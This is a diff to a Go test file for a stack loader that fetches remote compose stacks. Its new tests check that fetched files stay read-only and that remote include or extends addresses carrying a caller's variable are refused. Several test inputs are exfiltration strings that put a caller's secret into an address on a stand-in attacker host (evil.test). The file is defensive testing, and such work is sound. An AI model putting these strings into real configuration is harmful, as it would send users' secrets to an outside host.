@@ -205,7 +205,7 @@ func TestARemoteStackThatCannotBeFetched(t *testing.T) {
 // can know of another, and not as a volume.
 //
 // Risk path escape: a remote stack mounts what another was fetched to by its absolute path, to change it
-// Held: it is mounted read-only, whichever way it is named; as a volume it is refused with the place
+// Held: it is mounted read-only, whichever way it is named; as a volume, and as what a build's cache is written to, it is refused with the place
 func TestNobodyWritesWhatWasFetched(t *testing.T) {
 	for _, text := range []string{
 		"include: [oci://r.test/a:1]\nservices: {b: {image: x, volumes: ['DIR/conf:/x']}}\n",
@@ -213,6 +213,8 @@ func TestNobodyWritesWhatWasFetched(t *testing.T) {
 		"include: [oci://r.test/a:1]\nservices: {b: {image: x, volumes: ['v:/x']}}\nvolumes: {v: {driver_opts: {type: none, o: bind, device: DIR}}}\n",
 		"include: [oci://r.test/a:1]\nservices: {b: {image: x, volumes: ['v:/x']}}\nvolumes: {v: {driver_opts: {type: none, o: 'bind,rw', device: DIR/conf}}}\n",
 		"services: {b: {image: x, volumes: ['v:/x']}}\nvolumes: {v: {driver_opts: {type: none, o: bind, device: ./conf}}}\n",
+		"include: [oci://r.test/a:1]\nservices: {b: {build: {context: ., cache_to: ['type=inline', 'type=local,dest=DIR/conf']}}}\n",
+		"include: [oci://r.test/a:1]\nservices: {b: {image: x}}\njobs: {j: {triggers: {manual: true}, build: {context: ., cache_to: ['type=local,mode=max,dest=DIR']}}}\n",
 	} {
 		s := shelf{}
 		a := s.put(t, "oci://r.test/a:1", "", map[string]string{"compose.yaml": "services: {a: {image: x}}\n", "conf/a": ""})
@@ -221,7 +223,7 @@ func TestNobodyWritesWhatWasFetched(t *testing.T) {
 		write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/b:1]\n")
 		p, diagnostics, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s})
 		isRefused := err != nil && strings.HasPrefix(diagnostics.Errors()[0].String(), "oci://r.test/b:1: compose.yaml:")
-		if !isRefused && (err != nil || strings.Contains(text, "device") || !p.Services["b"].Volumes[0].ReadOnly) {
+		if !isRefused && (err != nil || strings.Contains(text, "device") || strings.Contains(text, "cache_to") || !p.Services["b"].Volumes[0].ReadOnly) {
 			t.Errorf("%s: %v, %v", text, err, diagnostics)
 		}
 	}
@@ -244,13 +246,13 @@ func TestNobodyWritesWhatWasFetched(t *testing.T) {
 func TestWhatARemoteStackIsTold(t *testing.T) {
 	s := shelf{}
 	s.put(t, "oci://r.test/app:1", "", map[string]string{
-		"compose.yaml": "include: [more.yaml]\nservices:\n  web:\n    image: 'x:${TAG:-1}'\n    environment: [BARE, 'IN=${TEXT}', 'DEFAULT=${NOBODYS:-x}', 'OWN=${BROUGHT}']\n    env_file: app.env\n" +
+		"compose.yaml": "include: [more.yaml]\nservices:\n  web:\n    image: 'x:${TAG:-1}'\n    environment: [BARE, 'IN=${TEXT}', 'DEFAULT=${NOBODYS:-x}', 'OWN=${BROUGHT}']\n    env_file: app.env\n    build: {context: ., args: [ARGUED, NOBODYS]}\n" +
 			"    post_start: [{command: [a], environment: [HOOKED]}]\nsecrets: {s: {environment: SECRET}}\n",
 		"more.yaml": "services: {more: {image: y, environment: [INCLUDED]}}\n", "app.env": "FILED\nX=${EXPANDED}\n", ".env": "BROUGHT=1\nY=${DOTTED}\n",
 	})
 	own := s.put(t, "oci://r.test/quiet:1", "", map[string]string{"compose.yaml": "services: {quiet: {image: z}}\n"})
 	dir, environ := t.TempDir(), map[string]string{}
-	for _, name := range []string{"TAG", "BARE", "TEXT", "HOOKED", "SECRET", "INCLUDED", "FILED", "EXPANDED", "DOTTED", "MINE"} {
+	for _, name := range []string{"TAG", "BARE", "TEXT", "HOOKED", "SECRET", "INCLUDED", "FILED", "EXPANDED", "DOTTED", "ARGUED", "MINE"} {
 		environ[name] = "v"
 	}
 	write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/app:1, oci://r.test/quiet:1]\nservices: {own: {image: '${MINE}', environment: [BARE], secrets: [s]}}\n")
@@ -258,14 +260,14 @@ func TestWhatARemoteStackIsTold(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	want := []string{"BARE", "DOTTED", "EXPANDED", "FILED", "HOOKED", "INCLUDED", "SECRET", "TAG", "TEXT"}
+	want := []string{"ARGUED", "BARE", "DOTTED", "EXPANDED", "FILED", "HOOKED", "INCLUDED", "SECRET", "TAG", "TEXT"}
 	if got := slices.Sorted(maps.Keys(p.Remotes[0].Variables)); !slices.Equal(got, want) {
 		t.Errorf("it is told %v, want %v", got, want)
 	}
 	const file = "oci://r.test/app:1: compose.yaml"
 	for name, place := range map[string]spec.Place{
 		"TAG": {File: file, Line: 4, Column: 12}, "TEXT": {File: file, Line: 5, Column: 25}, "BARE": {File: file, Line: 5, Column: 19}, "FILED": {File: "oci://r.test/app:1: app.env"},
-		"SECRET": {File: file, Line: 8, Column: 28},
+		"SECRET": {File: file, Line: 9, Column: 28},
 	} {
 		if got := p.Remotes[0].Variables[name]; got != place {
 			t.Errorf("%s is told at %v, want %v", name, got, place)
@@ -273,5 +275,62 @@ func TestWhatARemoteStackIsTold(t *testing.T) {
 	}
 	if len(own.Variables) > 0 {
 		t.Errorf("the other is told %v", own.Variables)
+	}
+}
+
+// asked notes which references were fetched.
+type asked struct {
+	shelf
+	references []string
+}
+
+func (a *asked) Fetch(ctx context.Context, reference, dir string) (*spec.Remote, error) {
+	a.references = append(a.references, reference)
+	return a.shelf.Fetch(ctx, reference, dir)
+}
+
+// TestAReferenceOfARemoteStackTellsNothing of the caller: it is fetched before any yes.
+//
+// Risk remote include: a remote stack includes or extends an address that has a variable of the caller's in it
+// Held: refused at its place, and nobody is asked; what the remote stack brings itself may be in it
+func TestAReferenceOfARemoteStackTellsNothing(t *testing.T) {
+	const commit = "0123456789012345678901234567890123456789"
+	for text, want := range map[string]string{
+		"include: ['https://evil.test/${SECRET}.git#" + commit + "']\n":                                          "compose.yaml:1:11: include[0]: ",
+		"include: [{path: 'oci://evil.test/a:${SECRET}'}]\n":                                                     "compose.yaml:1:18: include[0]: ",
+		"include: [{path: [a.yaml, 'oci://evil.test/a:$SECRET']}]\n":                                             "compose.yaml:1:27: include[0]: ",
+		"include:\n- 'oci://evil.test/a:${NOBODYS:-${SECRET}}'\n":                                                "compose.yaml:2:3: include[0]: ",
+		"include: ['oci://evil.test/a:x${SECRET:+y}']\n":                                                         "compose.yaml:1:11: include[0]: ",
+		"include: ['github.com/evil/${SECRET}']\n":                                                               "compose.yaml:1:11: include[0]: ",
+		"x-a: &a 'oci://evil.test/a:${SECRET}'\ninclude: [*a]\n":                                                 "include[0]: ",
+		"x-a: &a ['oci://evil.test/a:${SECRET}']\ninclude: *a\n":                                                 "include[0]: ",
+		"x-a: &a {path: 'oci://evil.test/a:${SECRET}'}\ninclude: [{<<: *a, env_file: a.env}]\n":                  "include[0]: ",
+		"x-a: &a {extends: {file: 'oci://evil.test/a:${SECRET}', service: x}}\nservices: {a: {<<: *a}, b: *a}\n": "extends: ",
+		"services: {a: {extends: {file: 'oci://evil.test/a:${SECRET}', service: x}}}\n":                          "services.a.extends: ",
+		"include: [more.yaml]\n":                                   "more.yaml:1:11: include[0]: ",
+		"include: [{path: more.yaml, env_file: b.env}]\n":          "more.yaml:1:11: include[0]: ",
+		"include: [{path: sent.yaml, env_file: [a.env, b.env]}]\n": "sent.yaml:1:11: include[0]: ",
+		"include: ['oci://good.test/a:${BROUGHT}', 'oci://good.test/a:${NOBODYS:-1}', 'oci://good.test/a:$$SECRET', a.yaml]\n": "",
+		"include: [{path: 'a.yaml', env_file: '${NOBODYS:-a}.env'}]\n":                                                         "",
+	} {
+		s := &asked{shelf: shelf{}}
+		s.put(t, "oci://r.test/app:1", "", map[string]string{
+			"compose.yaml": text, ".env": "BROUGHT=1\nSENT=${SECRET}\n", "a.env": "A=${SECRET}\n", "b.env": "SENT=${A}x${SECRET}\n",
+			"a.yaml": "services: {a: {image: x}}\n", "more.yaml": "include: ['oci://evil.test/a:${SENT}']\n", "sent.yaml": "include: ['oci://evil.test/a:${SENT}']\n",
+		})
+		for _, tag := range []string{"1", "$SECRET"} {
+			s.put(t, "oci://good.test/a:"+tag, "", map[string]string{"compose.yaml": "services: {g: {image: x}}\n"})
+		}
+		dir := t.TempDir()
+		write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/app:1]\nservices: {own: {image: x}}\n")
+		_, diagnostics, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s, Environ: map[string]string{"SECRET": "hunter2"}})
+		said := fmt.Sprint(err)
+		if len(diagnostics.Errors()) > 0 {
+			said = diagnostics.Errors()[0].String()
+		}
+		isRefused := strings.HasPrefix(said, "oci://r.test/app:1: ") && strings.Contains(said, want) && strings.Contains(said, "variable")
+		if want == "" && err != nil || want != "" && !isRefused || strings.Contains(fmt.Sprint(s.references, diagnostics), "hunter2") {
+			t.Errorf("%s: asked are %q, said is %s", text, s.references, said)
+		}
 	}
 }
